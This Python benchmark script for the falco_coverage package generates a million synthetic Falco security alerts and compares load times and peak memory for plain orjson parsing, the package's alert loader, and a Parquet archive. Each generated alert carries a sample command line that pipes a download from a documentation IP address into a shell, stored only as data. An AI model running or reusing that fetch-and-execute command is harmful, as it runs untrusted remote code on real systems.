"""Alerts: load and aggregate a generated file of 1,000,000 realistic alert lines, beside bare orjson.

    python bench/alerts.py [--lines N] [--before DIR]

Generates (once, in a temporary directory) Falco JSON alerts of the upstream rules: realistic
output strings and output_fields, 50 hosts, a few hundred rules with a long-tailed frequency. Then,
each in a fresh interpreter (so peak RSS is the load's own): ``orjson.loads`` of every line, and
``load_alerts`` + ``observed`` (the join to the upstream rules), and the same alerts from a Parquet
archive (written once from what was read; needs the ``archives`` extra).
``--before DIR`` (a checkout of an earlier version) runs the same load in that tree too, side by side.
Targets (issue 16): load + aggregate <= 10 s, <= 1.5 GB peak RSS, <= 3x the bare orjson time.
"""

from __future__ import annotations

import argparse
import json
import random
import subprocess
import sys
import tempfile
from importlib.util import find_spec
from pathlib import Path

from _bench import UPSTREAM

BARE = """
import orjson, time, resource, sys
t = time.perf_counter()
with open(sys.argv[1], "rb") as f:
    for line in f:
        orjson.loads(line)
print(time.perf_counter() - t, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""
OURS = """
import time, resource, sys
from falco_coverage import load_rules
from falco_coverage.alerts import load_alerts
from falco_coverage.analysis.observed import observed
rules = load_rules(*sys.argv[2:])
t = time.perf_counter()
a = load_alerts(sys.argv[1])
o = observed(rules, a.alerts)
print(time.perf_counter() - t, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""
TO_PARQUET = """
import sys
import pyarrow as pa, pyarrow.parquet as pq
from falco_coverage.alerts import load_alerts
a = load_alerts(sys.argv[1]).alerts
cols = {c: a[c] for c in ("time", "rule", "source", "hostname")}
cols["priority"] = a["priority"].astype(str)
cols["tags"] = a["tags"]
pq.write_table(pa.table(cols), sys.argv[2])
print(0, 0)
"""


def generate(path: Path, n: int) -> None:
    """``n`` alert lines of the upstream rules (names from the rule files), long-tailed."""
    from falco_coverage import load_rules

    rules = load_rules(*UPSTREAM).rules[["name", "priority", "tags"]].to_dict("records")
    rng = random.Random(16)
    weights = [1 / (i + 1) for i in range(len(rules))]
    with path.open("w") as out:
        for i, r in enumerate(rng.choices(rules, weights, k=n)):
            sec = i // 300
            fields = {"container.id": f"{rng.getrandbits(48):012x}", "proc.name": "bash", "proc.pid": 1000 + i % 5000,
                      "proc.cmdline": "bash -c 'curl -s http://198.51.100.7/x | sh'", "user.name": "root",
                      "k8s.ns.name": "payments", "k8s.pod.name": f"api-{i % 40}", "evt.time": 1793527200 * 10**9 + i}
            out.write(json.dumps({
                "hostname": f"node-{i % 50}", "output": f"{r['name']} (user=root command=bash container={i % 97})",
                "output_fields": fields, "priority": str(r["priority"]), "rule": r["name"], "source": "syscall",
                "tags": list(r["tags"]), "time": f"2026-11-01T{10 + sec // 3600 % 12:02d}:{sec // 60 % 60:02d}:"
                                                 f"{sec % 60:02d}.{i % 1000:03d}000000Z"}) + "\n")


def child(code: str, *args: str, tree: Path | None = None) -> tuple[float, float]:
    """Time and peak RSS (MB) of ``code`` in a fresh interpreter importing the package from ``tree``."""
    out = subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, check=True,
                         cwd=tree or Path(__file__).resolve().parents[1])
    t, rss = out.stdout.split()[-2:]
    return float(t), int(rss) / 1024


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--lines", type=int, default=1_000_000)
    ap.add_argument("--before", type=Path, metavar="DIR", help="an earlier checkout to measure side by side")
    args = ap.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "alerts.jsonl"
        generate(path, args.lines)
        size = path.stat().st_size / 1e6
        t_bare, rss_bare = child(BARE, str(path))
        t_ours, rss_ours = child(OURS, str(path), *map(str, UPSTREAM))
        before = child(OURS, str(path), *map(str, UPSTREAM), tree=args.before) if args.before else None
        parquet = Path(tmp) / "alerts.parquet"
        if find_spec("pyarrow") is not None:
            child(TO_PARQUET, str(path), str(parquet))
            t_pq, rss_pq = child(OURS, str(parquet), *map(str, UPSTREAM))
        else:
            t_pq = rss_pq = float("nan")
    print(f"{args.lines:,} alert lines, {size:.0f} MB")
    if before:
        print(f"before ({args.before})  {before[0]:6.2f} s  peak {before[1]:6.0f} MB  "
              f"({before[0] / t_bare:.2f}x bare orjson; this tree {t_ours / before[0]:.2f}x the time before)")
    print(f"bare orjson.loads          {t_bare:6.2f} s  peak {rss_bare:6.0f} MB")
    print(f"load_alerts + observed     {t_ours:6.2f} s  peak {rss_ours:6.0f} MB")
    print(f"the same from Parquet      {t_pq:6.2f} s  peak {rss_pq:6.0f} MB  ({t_pq / t_bare:.2f}x bare orjson over "
          "the JSON lines)")
    for text, ok in [(f"time  {t_ours:5.2f} s (target <= 10 s)", t_ours <= 10),
                     (f"ratio {t_ours / t_bare:5.2f}x bare orjson (target <= 3x)", t_ours / t_bare <= 3),
                     (f"peak  {rss_ours:5.0f} MB (target <= 1500 MB)", rss_ours <= 1500),
                     (f"Parquet {t_pq:5.2f} s, within the JSON lines' time"
                      + (" (pyarrow not installed: pip install 'falco-coverage[archives]')" if t_pq != t_pq else ""),
                      t_pq <= t_ours)]:
        print(("ok    " if ok else "MISS  ") + text)


if __name__ == "__main__":
    main()
